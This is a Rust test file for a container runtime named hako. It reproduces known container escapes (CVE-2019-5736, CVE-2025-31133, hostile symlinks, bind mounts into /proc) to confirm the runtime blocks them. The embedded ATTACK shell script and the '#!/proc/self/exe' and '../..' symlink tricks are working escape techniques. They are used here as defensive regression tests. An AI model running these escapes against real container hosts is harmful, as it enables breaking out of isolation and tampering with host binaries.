//! Known container escapes, each reproduced as the attack it is, from a hostile image or a
//! hostile process in the container; each test also runs against runc where runc 1.1.5 is not
//! known to be vulnerable.
//!
//! - CVE-2019-5736: a container process gets a descriptor to the runtime's binary through
//!   `/proc/<pid>/exe` of a runtime process it can see, and writes through it once the binary
//!   no longer runs. The classic way in: the image replaces the program an `exec` will run with
//!   a `#!/proc/self/exe` script, so the runtime's own exec child, whose `/proc/self/exe` is
//!   still the runtime, runs the runtime binary *as a container process*. These tests use a
//!   COPY of the runtime binary as the runtime, and compare it byte for byte afterwards.
//! - Hostile symlinks met by `exec` (`--cwd`, a process JSON's `cwd`): resolved inside the
//!   rootfs, never on the host. (CVE-2024-21626, leaked descriptors as cwd: tests/security.rs.)
//! - `/sys` redirected by a symlink in the image, and mount destinations inside `/proc` (runc's
//!   `checkProcMount`; CVE-2019-19921, CVE-2019-16884, CVE-2025-52881 class), and masked paths
//!   redirected through a symlinked `/dev/null` (CVE-2025-31133). `/proc -> /` is in
//!   tests/rootfs.rs.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use anyhow::{ensure, Context, Result};
use hako_tests::{both, output_with_timeout, wait_pid_exit, Bundle, Run, Runtime};
use serde_json::json;

/// A copy of the runtime's binary in a temporary directory, used as the runtime for one test:
/// an attack that succeeds damages the copy, never the real binary.
struct CopiedRuntime {
    _dir: tempfile::TempDir,
    path: PathBuf,
    original: Vec<u8>,
}

impl CopiedRuntime {
    fn new(rt: Runtime) -> Result<Self> {
        let source = in_path(&rt.binary())?;
        let original = std::fs::read(&source).with_context(|| format!("read {source:?}"))?;
        let dir = tempfile::Builder::new()
            .prefix("hako-test-bin-")
            .tempdir()?;
        let path = dir.path().join(rt.name());
        std::fs::write(&path, &original)?;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755))?;
        Ok(CopiedRuntime {
            _dir: dir,
            path,
            original,
        })
    }

    /// Runs the copy with `--root` of `b` and `args`, with a timeout.
    fn rt(&self, b: &Bundle, args: &[&str], timeout: Duration) -> Result<Run> {
        let mut c = Command::new(&self.path);
        c.arg("--root")
            .arg(b.state_root())
            .args(args)
            .stdin(Stdio::null());
        output_with_timeout(c, timeout)
    }

    /// Whether the copy still holds exactly the runtime's bytes.
    fn unchanged(&self) -> Result<bool> {
        Ok(std::fs::read(&self.path)? == self.original)
    }
}

/// `name` as found in `$PATH` (runc is "runc"), or itself if it has a slash.
fn in_path(name: &Path) -> Result<PathBuf> {
    if name.components().count() > 1 {
        return Ok(name.to_path_buf());
    }
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path)
        .map(|d| d.join(name))
        .find(|p| p.is_file())
        .with_context(|| format!("{name:?} not in PATH"))
}

/// The ELF interpreter and libraries of `binary` (from ldd(1)); empty for a static binary.
fn dynamic_deps(binary: &Path) -> Result<(Option<PathBuf>, Vec<PathBuf>)> {
    let out = Command::new("ldd").arg(binary).output().context("ldd")?;
    let text = String::from_utf8_lossy(&out.stdout);
    let mut interp = None;
    let mut libs = Vec::new();
    for line in text.lines() {
        let line = line.trim();
        if let Some((_, rest)) = line.split_once("=>") {
            if let Some(p) = rest
                .split_whitespace()
                .next()
                .filter(|p| p.starts_with('/'))
            {
                libs.push(PathBuf::from(p));
            }
        } else if let Some(p) = line
            .split_whitespace()
            .next()
            .filter(|p| p.starts_with('/'))
        {
            interp = Some(PathBuf::from(p));
        }
    }
    Ok((interp, libs))
}

/// The container's side of CVE-2019-5736: wait for a process whose executable is not the
/// image's busybox, keep a descriptor to that executable (`/found` says so), let the process go
/// on (the libraries it waits for are FIFOs: a byte-less open ends its loading), then try to
/// write through the descriptor, again while that fails with ETXTBSY (some process still runs
/// the binary; 30 s at most), and say in `/result` whether it worked.
const ATTACK: &str = r#"
while :; do
  for d in /proc/[0-9]*; do
    l=$(readlink $d/exe 2>/dev/null) || continue
    case "$l" in ""|*busybox*) continue;; esac
    command exec 3< $d/exe 2>/dev/null || continue
    echo "${d#/proc/} $l" > /found
    break 2
  done
done
for f in /lib/*/* /usr/lib/*/*; do
  [ -p "$f" ] && command exec 4<>"$f" 2>/dev/null && exec 4>&-
done
end=$(( $(date +%s) + 30 ))
while [ $(date +%s) -lt $end ]; do
  err=$( (echo PWNED > /proc/self/fd/3) 2>&1 ) && { echo overwrote > /result; exit 0; }
  case "$err" in *busy*) continue;; esac
  echo "write-refused: $err" > /result; exit 0
done
echo "write-refused: still busy" > /result
"#;

/// CVE-2019-5736 through `exec`: the image's `/bin/evil` is `#!/proc/self/exe`, a process in
/// the container waits for whatever that runs and tries to overwrite its binary. With a
/// dynamically linked runtime the image holds the runtime's process in the dynamic loader (its
/// libraries are FIFOs in the image, the loader a real one), so the attack is deterministic;
/// a static runtime is raced instead, `hako exec` run up to 100 times. runc 1.1.5 runs its init
/// from a sealed copy and is not vulnerable.
fn runtime_binary_cannot_be_overwritten_through_exec(rt: Runtime) -> Result<()> {
    let copy = CopiedRuntime::new(rt)?;
    let b = Bundle::new(rt, "exe5736", &["sh", "/attack.sh"])?;
    let root = b.rootfs();
    std::fs::write(root.join("attack.sh"), ATTACK)?;
    std::fs::write(root.join("bin/evil"), "#!/proc/self/exe\n")?;
    std::fs::set_permissions(
        root.join("bin/evil"),
        std::fs::Permissions::from_mode(0o755),
    )?;
    let (interp, libs) = dynamic_deps(&copy.path)?;
    let deterministic = interp.is_some();
    if let Some(interp) = &interp {
        let inside = root.join(interp.strip_prefix("/")?);
        std::fs::create_dir_all(inside.parent().context("interpreter path")?)?;
        std::fs::copy(interp, &inside)?;
        for lib in &libs {
            let inside = root.join(lib.strip_prefix("/")?);
            std::fs::create_dir_all(inside.parent().context("library path")?)?;
            nix::unistd::mkfifo(&inside, nix::sys::stat::Mode::from_bits_truncate(0o644))?;
        }
    }
    b.write_config()?;
    let bundle = b.path().to_string_lossy().into_owned();
    let long = Duration::from_secs(60);
    copy.rt(&b, &["run", "-d", "--bundle", &bundle, &b.id], long)?
        .ok()?;
    let init = b.state()?["pid"].as_i64().unwrap_or(0) as i32;
    ensure!(init > 0, "no init pid");
    let attempts = if deterministic { 1 } else { 100 };
    for _ in 0..attempts {
        // A runtime that never lets the held process go would time out here; the verdict is
        // the binary's bytes, not this exit status.
        let r = copy.rt(&b, &["exec", &b.id, "/bin/evil"], Duration::from_secs(20));
        if let Err(e) = r {
            eprintln!("exec of /bin/evil: {e:#}");
        }
        if root.join("found").exists() {
            break;
        }
    }
    let found = std::fs::read_to_string(root.join("found")).unwrap_or_default();
    if !found.is_empty() {
        // The attacker holds a descriptor: its write attempts end, one way or the other.
        wait_pid_exit(init, Duration::from_secs(60))?;
    }
    let result = std::fs::read_to_string(root.join("result")).unwrap_or_default();
    ensure!(
        copy.unchanged()?,
        "the container overwrote the runtime binary through /proc/<pid>/exe \
         (CVE-2019-5736): caught process {found:?}, attacker says {result:?}"
    );
    ensure!(result.trim() != "overwrote", "{result:?}");
    // runc: "write-refused: ... Read-only file system" (the binary it runs is a read-only copy).
    eprintln!("caught {found:?}, attacker says {result:?}");
    Ok(())
}
both!(runtime_binary_cannot_be_overwritten_through_exec);

/// CVE-2019-5736 against a created container's init, which waits on the exec fifo still
/// running the runtime's code: a process exec'd into the container cannot write the binary
/// through `/proc/1/exe` (hako: the init is not dumpable; runc: it runs from a sealed copy).
fn waiting_init_binary_cannot_be_overwritten(rt: Runtime) -> Result<()> {
    let copy = CopiedRuntime::new(rt)?;
    let b = Bundle::new(rt, "initexe", &["sleep", "1000"])?;
    b.write_config()?;
    let bundle = b.path().to_string_lossy().into_owned();
    let long = Duration::from_secs(60);
    copy.rt(&b, &["create", "--bundle", &bundle, &b.id], long)?
        .ok()?;
    let r = copy
        .rt(
            &b,
            &[
                "exec",
                &b.id,
                "sh",
                "-c",
                "command exec 3< /proc/1/exe 2>/dev/null && echo opened; \
                 (echo PWNED > /proc/1/exe) 2>/dev/null && echo wrote-exe; \
                 (echo PWNED > /proc/self/fd/3) 2>/dev/null && echo wrote-fd; echo done",
            ],
            long,
        )?
        .ok()?;
    ensure!(r.stdout.contains("done"), "{r:?}");
    ensure!(!r.stdout.contains("wrote"), "{r:?}");
    ensure!(copy.unchanged()?, "runtime binary changed: {r:?}");
    Ok(())
}
both!(waiting_init_binary_cannot_be_overwritten);

/// A host directory with a marker file, and the same path made inside `rootfs` with a different
/// one: a symlink to that path resolves to the inside copy, or the host's shows through.
fn marker_dirs(rootfs: &Path) -> Result<tempfile::TempDir> {
    let host = tempfile::Builder::new()
        .prefix("hako-test-marker-")
        .tempdir()?;
    std::fs::write(host.path().join("host-secret"), "host")?;
    let inside = rootfs.join(host.path().strip_prefix("/")?);
    std::fs::create_dir_all(&inside)?;
    std::fs::write(inside.join("inside-file"), "inside")?;
    Ok(host)
}

/// `exec` with a working directory through hostile symlinks (absolute with `..` climbing, and
/// relative) lands inside the rootfs: `pwd` shows the container path and the directory listed
/// is the image's, never the host's.
fn exec_cwd_through_hostile_symlinks_stays_inside(rt: Runtime) -> Result<()> {
    let b = Bundle::new(rt, "execsym", &["sleep", "1000"])?;
    let host = marker_dirs(&b.rootfs())?;
    let target = host.path().to_string_lossy().into_owned();
    std::os::unix::fs::symlink(
        format!("/../../../../../..{target}"),
        b.rootfs().join("evil"),
    )?;
    std::os::unix::fs::symlink(
        format!("../../../../../..{target}"),
        b.rootfs().join("tmp/evil-rel"),
    )?;
    b.write_config()?;
    let bundle = b.path().to_string_lossy().into_owned();
    b.rt(&["run", "-d", "--bundle", &bundle, &b.id])?.ok()?;
    let check = |r: Run, how: &str| -> Result<()> {
        let r = r.ok().with_context(|| how.to_string())?;
        ensure!(
            !r.stdout.contains("host-secret"),
            "{how}: the host directory is visible: {r:?}"
        );
        ensure!(
            r.stdout == format!("{target}\ninside-file\n"),
            "{how}: expected the in-container path and its file: {r:?}"
        );
        Ok(())
    };
    check(
        b.rt(&["exec", "--cwd", "/evil", &b.id, "sh", "-c", "pwd -P; ls"])?,
        "--cwd /evil",
    )?;
    let process = b.path().join("process.json");
    std::fs::write(
        &process,
        serde_json::to_vec(&json!({
            "terminal": false,
            "user": {"uid": 0, "gid": 0},
            "args": ["sh", "-c", "pwd -P; ls"],
            "env": ["PATH=/bin"],
            "cwd": "/tmp/evil-rel",
        }))?,
    )?;
    check(
        b.rt(&["exec", "--process", &process.to_string_lossy(), &b.id])?,
        "process.json cwd /tmp/evil-rel",
    )?;
    Ok(())
}
both!(exec_cwd_through_hostile_symlinks_stays_inside);

/// An image whose `/sys` is a symlink (to the container's `/proc`, or to a host path) does not
/// get sysfs mounted through it: the config is refused, or if a runtime accepts it, `/proc` in
/// the container is still procfs and the host directory keeps its content.
fn sys_symlink_in_image_is_refused_or_contained(rt: Runtime) -> Result<()> {
    for (tag, to_proc) in [("syssymproc", true), ("syssymhost", false)] {
        let b = Bundle::new(
            rt,
            tag,
            &["sh", "-c", "stat -f -c %T /proc; ls /sys/ | head -n 3"],
        )?;
        let host = tempfile::Builder::new()
            .prefix("hako-test-marker-")
            .tempdir()?;
        std::fs::write(host.path().join("host-secret"), "host")?;
        std::fs::remove_dir(b.rootfs().join("sys"))?;
        let target = if to_proc {
            PathBuf::from("/proc")
        } else {
            host.path().to_path_buf()
        };
        std::os::unix::fs::symlink(&target, b.rootfs().join("sys"))?;
        let r = b.run()?;
        ensure!(
            std::fs::read_to_string(host.path().join("host-secret"))? == "host",
            "{tag}: host marker changed"
        );
        ensure!(
            std::fs::read_dir(host.path())?.count() == 1,
            "{tag}: host directory gained entries"
        );
        if r.code == 0 {
            ensure!(
                r.stdout.starts_with("proc\n"),
                "{tag}: /proc is no longer procfs: {r:?}"
            );
        }
        ensure!(
            b.rt(&["state", &b.id])?.code != 0,
            "{tag}: state left behind"
        );
    }
    Ok(())
}
both!(sys_symlink_in_image_is_refused_or_contained);

/// Mounts onto files inside `/proc` are refused, except runc's short list (lxcfs's files): a
/// bind over `/proc/sysrq-trigger` or the process's own `attr/exec` would let a config (a
/// volume) replace what the kernel or the runtime writes to (runc `checkProcMount`).
fn mount_destinations_inside_proc_are_refused(rt: Runtime) -> Result<()> {
    let host = tempfile::Builder::new()
        .prefix("hako-test-procdest-")
        .tempdir()?;
    let file = host.path().join("file");
    std::fs::write(&file, "host-file\n")?;
    for (tag, dest) in [
        ("procsysrq", "/proc/sysrq-trigger"),
        ("procattr", "/proc/self/attr/exec"),
        ("proccore", "/proc/sys/kernel/core_pattern"),
    ] {
        let mut b = Bundle::new(rt, tag, &["true"])?;
        b.config["mounts"].as_array_mut().context("mounts")?.push(
            json!({"destination": dest, "type": "bind", "source": file, "options": ["bind"]}),
        );
        let r = b.create()?;
        ensure!(r.code != 0, "a bind mount on {dest} must be refused: {r:?}");
        ensure!(b.rt(&["state", &b.id])?.code != 0, "{dest}: nothing left");
    }
    // The allowed list still works (so the refusals above are about the destination).
    let mut b = Bundle::new(rt, "procmeminfo", &["cat", "/proc/meminfo"])?;
    b.config["mounts"]
        .as_array_mut()
        .context("mounts")?
        .push(json!({"destination": "/proc/meminfo", "type": "bind", "source": file, "options": ["bind"]}));
    let r = b.run()?.ok()?;
    ensure!(r.stdout == "host-file\n", "{r:?}");
    Ok(())
}
both!(mount_destinations_inside_proc_are_refused);

/// CVE-2025-31133: masked paths are hidden by bind-mounting the container's `/dev/null`; an
/// image without a `/dev` tmpfs whose `/dev/null` is a symlink must not get the symlink's target
/// bound over the masked path. The real attack points it at a procfs file such as
/// `/proc/sys/kernel/core_pattern` (runc 1.1.5 then binds that file over the masked path, and
/// even reopens the container's stdio through it, writing into the host's core_pattern: seen
/// while writing this test); here the target is a file of the image, so a vulnerable runtime
/// only shows its content. runc 1.1.5 predates the fix (1.2.8), so hako only.
#[test]
fn masked_path_through_symlinked_dev_null_is_not_redirected() -> Result<()> {
    let mut b = Bundle::new(
        Runtime::Hako,
        "devnullsym",
        &["sh", "-c", "cat /etc/masked; echo done"],
    )?;
    if let Some(m) = b.config["mounts"].as_array_mut() {
        m.retain(|m| {
            !m["destination"]
                .as_str()
                .is_some_and(|d| d.starts_with("/dev"))
        });
    }
    b.config["linux"]["maskedPaths"] = json!(["/etc/masked"]);
    std::fs::write(b.rootfs().join("etc/masked"), "original\n")?;
    std::fs::write(b.rootfs().join("etc/redirect-target"), "redirected\n")?;
    std::fs::create_dir_all(b.rootfs().join("dev"))?;
    std::os::unix::fs::symlink("/etc/redirect-target", b.rootfs().join("dev/null"))?;
    let r = b.run()?;
    ensure!(
        !r.stdout.contains("redirected"),
        "the masked path shows the symlink's target: {r:?}"
    );
    ensure!(
        std::fs::read_to_string(b.rootfs().join("etc/redirect-target"))? == "redirected\n",
        "the runtime wrote through the symlinked /dev/null"
    );
    // Refused, or masked: nothing of the file shows.
    if r.code == 0 {
        ensure!(r.stdout == "done\n", "{r:?}");
    }
    Ok(())
}
